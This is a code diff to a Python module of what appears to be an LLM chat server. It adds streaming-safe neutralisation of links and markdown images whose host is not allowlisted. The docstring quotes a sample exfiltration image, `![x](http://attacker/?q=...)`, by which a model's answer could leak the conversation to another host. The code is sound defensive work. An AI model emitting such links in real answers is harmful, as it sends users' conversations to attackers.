@@ -2,7 +2,8 @@
 model write a link or a markdown image that leaks the conversation to another host when a client
 renders it (`![x](http://attacker/?q=...)`). Before an answer leaves the server, every link and
 image whose host is not in `answer_link_hosts` (https only; none by default) is reduced to its
-text. The web page applies the same rule to the streamed raw text (`server/static/chat.js`)."""
+text: the checked answer by `neutralize_links`, the streamed raw text by `StreamedLinks` (and the
+web page applies the same rule again as it renders, `server/static/chat.js`)."""
 
 from __future__ import annotations
 
@@ -57,3 +58,65 @@ def neutralize_links(text: str, hosts: Iterable[str] = ()) -> str:
         last = kept.end()
     out.append(_BARE_URL.sub(bare, text[last:]))
     return "".join(out)
+
+
+# Where a held-back tail may begin: an opening bracket (a markdown link's label) or the
+# start of the last word (a bare URL grows until whitespace).
+_LAST_WORD = re.compile(r"\S*\Z")
+_OPEN_LABEL_LIMIT = 600  # a label longer than the regex allows can no longer become a link
+
+
+class StreamedLinks:
+    """`neutralize_links` for text that arrives in pieces. A link may arrive over several
+    pieces (`![x](ht` + `tp://attacker/...)`), so the tail that could still become one (an
+    open `[label](target`, or the last word, which may be a URL) is held back until it is
+    complete or cannot be a link; what is released never holds a URL of another host.
+    The released pieces joined are `neutralize_links` of the whole text in all but rare
+    cases (a URL running into a bracket), and never less strict."""
+
+    def __init__(self, hosts: Iterable[str] = ()) -> None:
+        self.hosts = list(hosts)
+        self._held = ""
+
+    def add(self, piece: str) -> str:
+        """What can be shown now that `piece` arrived (possibly nothing)."""
+        self._held += piece
+        cut = self._safe_cut(self._held)
+        released, self._held = self._held[:cut], self._held[cut:]
+        return neutralize_links(released, self.hosts) if released else ""
+
+    def finish(self) -> str:
+        """The rest, at the end of the stream."""
+        rest, self._held = self._held, ""
+        return neutralize_links(rest, self.hosts) if rest else ""
+
+    @staticmethod
+    def _safe_cut(text: str) -> int:
+        """The start of the part of `text` that may still become part of a link."""
+        cut = _LAST_WORD.search(text).start()  # type: ignore[union-attr]  # always matches
+        done = 0  # the end of the last complete link: released whole, with what precedes it
+        for opening in re.finditer(r"!?\[", text):
+            start = opening.start()
+            if start < done:
+                continue
+            if start >= cut:
+                break
+            complete = _MARKDOWN_LINK.match(text, start)
+            if complete:
+                done = complete.end()
+                cut = max(cut, done)
+            elif StreamedLinks._may_become_link(text[start:]):
+                return start
+        return cut
+
+    @staticmethod
+    def _may_become_link(text: str) -> bool:
+        """Whether `text`, which starts with `[` or `![` and is no complete markdown link,
+        is the start of one that more text could complete."""
+        label_end = text.find("]")
+        if label_end < 0:
+            return "\n" not in text and len(text) <= _OPEN_LABEL_LIMIT
+        rest = text[label_end + 1 :]
+        if not rest:
+            return True  # `(` may follow
+        return rest.startswith("(") and ")" not in rest and len(text) <= 2 * _OPEN_LABEL_LIMIT
